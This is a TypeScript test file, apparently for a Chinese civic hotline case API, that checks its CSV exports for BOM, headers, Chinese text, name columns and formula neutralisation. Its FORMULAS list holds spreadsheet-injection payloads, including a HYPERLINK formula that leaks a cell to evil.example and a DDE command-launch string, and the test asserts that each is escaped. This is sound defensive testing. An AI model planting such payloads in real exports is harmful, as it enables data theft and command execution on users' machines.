import { parse } from 'csv-parse/sync';
import { toCsv } from '../../apps/api/src/views/common/csv';
import { CSV_COLUMNS } from '../../apps/api/src/views/common/csv-columns';
import { ApiHarness, startApi } from '../support/api-harness';

const FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"点我")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

/** Exports open in Excel: Chinese intact, no formula runs, a header always, names beside ids. */
describe('CSV exports', () => {
  let api: ApiHarness;
  let op: string;
  const caseIds: string[] = [];
  let position = 0;

  const ok = async (method: string, path: string, token: string, body?: unknown) => {
    const response = await api.request(method, path, { token, body });
    if (response.status >= 300) throw new Error(`${method} ${path}: ${response.status} ${JSON.stringify(response.body)}`);
    position = Math.max(position, Number(response.body?.position ?? 0));
    return response.body;
  };

  beforeAll(async () => {
    api = await startApi({ WORKER_IN_PROCESS: 'true', VIEWS_CONSISTENCY_TIMEOUT_MS: '5000' });
    op = api.token('operator');
    // each case climbs grid → community → street → district, one formula per escalation reason
    for (const reasons of [FORMULAS.slice(0, 3), FORMULAS.slice(3)]) {
      const { id } = await ok('POST', '/cases', op, {
        channel: 'hotline_12345', category: 'repair.water_leak', urgency: 'normal', requestType: 'complaint', description: '楼顶漏水',
        location: { compoundId: 'compound-01' }, reporter: { name: '王女士', phone: '13800138000' },
      });
      await ok('POST', `/cases/${id}/dispatch`, op, { assigneeId: 'grid-111', tier: 'grid' });
      for (const [holder, reason] of [['grid-111', reasons[0]], ['community-11', reasons[1]], ['street-fuzimiao', reasons[2]]]) {
        const token = api.token('handler', holder);
        await ok('POST', `/cases/${id}/accept`, token, {});
        await ok('POST', `/cases/${id}/escalate`, token, { reason });
      }
      caseIds.push(id);
    }
  });
  afterAll(async () => { await api?.close(); });

  /** The bytes as sent: fetch's text() would drop the byte-order mark this test looks for. */
  const csv = async (path: string) => {
    const response = await fetch(`${api.baseUrl}${path}${path.includes('?') ? '&' : '?'}format=csv&consistentWith=${position}`, { headers: { authorization: `Bearer ${op}` } });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
    return Buffer.from(await response.arrayBuffer()).toString('utf8');
  };

  it('the chain export: BOM, header, every formula neutralised, names beside unit ids', async () => {
    const cells: string[] = [];
    for (const id of caseIds) {
      const text = await csv(`/cases/${id}/chain`);
      expect(text.charCodeAt(0)).toBe(0xfeff);
      const header = parse(text, { bom: true, to_line: 1 })[0] as string[];
      expect(header.indexOf('assigneeName')).toBe(header.indexOf('assigneeId') + 1);
      const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
      expect(rows.map((r) => [r.assigneeId, r.assigneeName])).toEqual([
        ['grid-111', '瞻园社区第1网格'], ['community-11', '瞻园社区'], ['street-fuzimiao', '夫子庙街道'], ['district-qinhuai', '秦淮区'],
      ]);
      cells.push(...rows.map((r) => r.escalationReason).filter(Boolean));
    }
    expect(cells).toEqual(FORMULAS.map((f) => `'${f}`));
  });

  it('grouped views: a name beside every key, Chinese intact; JSON rows carry the names too', async () => {
    const text = await csv('/views/escalations?groupBy=street');
    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toEqual(expect.arrayContaining([expect.objectContaining({ key: 'street-fuzimiao', name: '夫子庙街道' })]));
    const json = await api.request('GET', `/views/board?consistentWith=${position}`, { token: op });
    expect(json.body.rows[0]).toMatchObject({ assigneeId: 'district-qinhuai', assigneeName: '秦淮区', category: 'repair.water_leak', categoryName: '房屋漏水', compoundName: expect.any(String), streetName: '夫子庙街道' });
    const grouped = await api.request('GET', `/views/escalations?groupBy=street&consistentWith=${position}`, { token: op });
    expect(grouped.body.rows).toEqual(expect.arrayContaining([expect.objectContaining({ key: 'street-fuzimiao', name: '夫子庙街道' })]));
  });

  it.each([
    ['/views/board?status=closed', 'board'],
    ['/views/satisfaction?groupBy=street&from=2020-01-01&to=2020-01-02', 'satisfaction'],
    ['/views/three-rates?groupBy=street&month=2020-01', 'three-rates'],
    ['/views/response-times?groupBy=street&from=2020-01-01&to=2020-01-02', 'response-times'],
    ['/views/escalations?groupBy=street&from=2020-01-01&to=2020-01-02', 'escalations'],
  ] as const)('%s with no rows still has its header', async (path, view) => {
    const text = await csv(path);
    const lines = parse(text, { bom: true }) as string[][];
    expect(lines).toHaveLength(1);
    expect(lines[0]).toEqual(CSV_COLUMNS[view]);
  });

  it('numbers stay numbers, text that looks like a formula does not', () => {
    const text = toCsv([{ delta: -3, rate: 0.25, note: '-3', formula: '-2+3', plain: '王女士, "quoted"', done: true }]);
    expect(parse(text, { bom: true, columns: true })).toEqual([{ delta: '-3', rate: '0.25', note: '-3', formula: "'-2+3", plain: '王女士, "quoted"', done: 'true' }]);
  });
});
